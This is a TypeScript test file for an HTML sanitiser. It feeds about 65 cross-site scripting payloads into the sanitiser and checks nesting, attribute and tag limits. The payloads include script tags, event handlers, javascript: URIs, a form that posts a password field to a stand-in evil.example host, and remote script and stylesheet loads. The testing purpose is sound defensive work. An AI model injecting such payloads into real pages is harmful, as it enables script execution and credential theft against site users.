import { XSS_PAYLOADS } from '../../../../test/corpora/xss-payloads.js';
import { MarkupTooHeavy } from './markup-limits.js';
import { sanitizePost } from './sanitize-post.js';
import { harmIn } from './testing/harm-in.js';

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<img srcset="javascript:alert(1)" src=x>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="https://x.example" onclick="alert(1)">x</a>',
  '<a href="https://x.example" target=_blank ping="https://evil.example">x</a>',
  '<a style="position:fixed;inset:0" href="https://x.example">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="x.swf">',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="width:expression(alert(1))">x</div>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<p id="app">x</p>',
  '<img name="getElementById" src="https://x.example/a.png">',
  '<li id="root">x</li>',
  '<li id="not-source-1">x</li>',
  '<li id="source-1-root">x</li>',
  '<span data-sentence="b1.1&quot; onmouseover=&quot;alert(1)">x</span>',
  '<span data-sentence="x" class="ant-modal">x</span>',
  '<p onpointerenter="alert(1)" tabindex=1>x</p>',
  '<img src=x:alert(1) onerror=eval(src)>',
  '<a href="https://x.example/\u0000javascript:alert(1)" onmouseover\u0000=alert(1)>x</a>',
  '"><img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<<img src=x onerror=alert(1)>',
  '<p/onclick=alert(1)>x',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<keygen autofocus onfocus=alert(1)>',
];

const isRefused = (html: string): boolean => {
  try {
    return sanitizePost(html) === null;
  } catch (error) {
    return error instanceof MarkupTooHeavy;
  }
};
const ALL = [...new Set([...PAYLOADS, ...Object.values(XSS_PAYLOADS).flat()])];
const EVERYTHING = ALL.filter((payload) => !isRefused(payload));

describe('sanitised HTML', () => {
  it.each(EVERYTHING)('has nothing that runs, frames, posts or poses: %.80s', (payload) => {
    expect(harmIn(sanitizePost(`<p>before</p>${payload}<p>after</p>`))).toEqual([]);
  });

  it('stays the same when sanitised again', () => {
    for (const payload of EVERYTHING) expect(sanitizePost(sanitizePost(payload))).toBe(sanitizePost(payload));
  });

  it('is refused for the payloads alone that nest hundreds of elements', () => {
    const refused = ALL.filter(isRefused);
    expect(refused).toHaveLength(1);
    expect(refused[0]!.match(/<\w/g)!.length).toBeGreaterThan(100);
  });

  it('keeps what a post is made of, byte for byte', () => {
    const html =
      '<h2>Costs</h2>\n<p>It is <strong>so</strong>.<sup><a ' +
      'href="#source-1">[1]</a></sup></p>\n<blockquote><p>Said.</p></blockquote>\n<ul>\n<li>One</li>\n</ul>\n<ol>\n<li ' +
      'id="source-1"><a href="https://x.example/?a=1&amp;b=2" rel="nofollow noopener">X &amp; Y</a></li>\n</ol>';
    expect(sanitizePost(html)).toBe(html);
  });

  it('has variants only of pictures in a library of Galley', () => {
    const at = 'https://galley.example/pictures/JpD2sOqbW4Zr1uXcTq0x5g';
    const image = (src: string, srcset: string, sizes = '(min-width: 800px) 800px, 100vw') =>
      `<img src="${src}" alt="A" srcset="${srcset}" sizes="${sizes}" loading="lazy" />`;
    const own = image(`${at}/960.jpg`, `${at}/480.webp 480w, ${at}/960.webp 960w`);
    expect(sanitizePost(own)).toBe(own);
    const other = 'https://galley.example/pictures/ApD2sOqbW4Zr1uXcTq0x5g';
    for (const [src, srcset, sizes] of [
      ['https://x.example/a.png', `${at}/480.webp 480w`],
      [`${at}/960.jpg`, `${other}/480.webp 480w`],
      [`${at}/960.jpg`, `${at}/480.webp 480w, https://x.example/a.png 960w`],
      [`${at}/960.jpg`, `${at}/480.webp 480w`, 'url(https://x.example)'],
    ] as const)
      expect(sanitizePost(image(src, srcset, sizes))).toBe(`<img src="${src}" alt="A" />`);
  });

  it('has no span, no class, no data attribute, and no id to which no number links', () =>
    expect(
      sanitizePost(
        '<p class="x" data-block="b1" id="app"><span data-sentence="b1.1" style="color: red">Words.</span></p><li ' +
          'id="root">x</li><a id="citation-1-1-app" href="/a">y</a>',
      ),
    ).toBe('<p>Words.</p><li>x</li><a href="/a">y</a>'));

  it('gives links to other sites rel="noopener" and leaves relative ones alone', () => {
    expect(
      sanitizePost(
        '<a href="https://x.example" rel="opener">x</a><a href="/own">y</a><a href="mailto:a@b.example">z</a>',
      ),
    ).toBe('<a href="https://x.example" rel="noopener">x</a><a href="/own">y</a><a href="mailto:a@b.example">z</a>');
  });

  it.each([
    ['<blockquote>', 'nested'],
    ['<ul><li>', 'nested'],
    ['<b>', 'nested'],
    ['<table><tr><td>', 'nested'],
    ['<unknown>', 'nested'],
    ['<b><!--</b>-->', 'nested'],
    ['<b title="</b>">', 'nested'],
    ['<svg><g>', 'nested'],
    ['<p>', 'too many'],
    ['<br>', 'too many'],
    ['</p>', 'too many'],
    ['<li>', 'too many'],
    ['<i></i>', 'too many'],
  ])('is refused in words for %s without end: %s', (unit, reason) => {
    expect(() => sanitizePost(unit.repeat(16_000))).toThrow(
      expect.objectContaining({ name: 'MarkupTooHeavy', kind: 'invalid', message: expect.stringContaining(reason) }),
    );
  });

  // Without limits a parser takes minutes, as it shifts a list as long as the text for each tag.
  it.each(['<b>', '&amp;', '<'])('is refused before it is read for half a million of %s', (unit) =>
    expect(() => sanitizePost(unit.repeat(500_000))).toThrow('too many tags and entities: at most 50,000'),
  );

  it('is refused for an element with thousands of attributes', () =>
    expect(() => sanitizePost(`<p ${Array.from({ length: 10_000 }, (_, at) => `a${at}=1`).join(' ')}>x</p>`)).toThrow(
      'too many attributes: at most 200',
    ));

  it('may be nested a hundred deep, and no deeper', () => {
    const nested = (levels: number) => '<blockquote>'.repeat(levels) + '</blockquote>'.repeat(levels);
    expect(sanitizePost(nested(100))).toBe(nested(100));
    expect(() => sanitizePost(nested(101))).toThrow('at most 100 levels');
  });

  it('is text where nothing is an element, however long the runs are', () => {
    for (const run of ['<', '>', '&', '</', '<!', '<?', '"', '=', '&#', '&amp'])
      expect(sanitizePost(run.repeat(40_000)).length).toBeLessThan(1_000_000);
  });
});
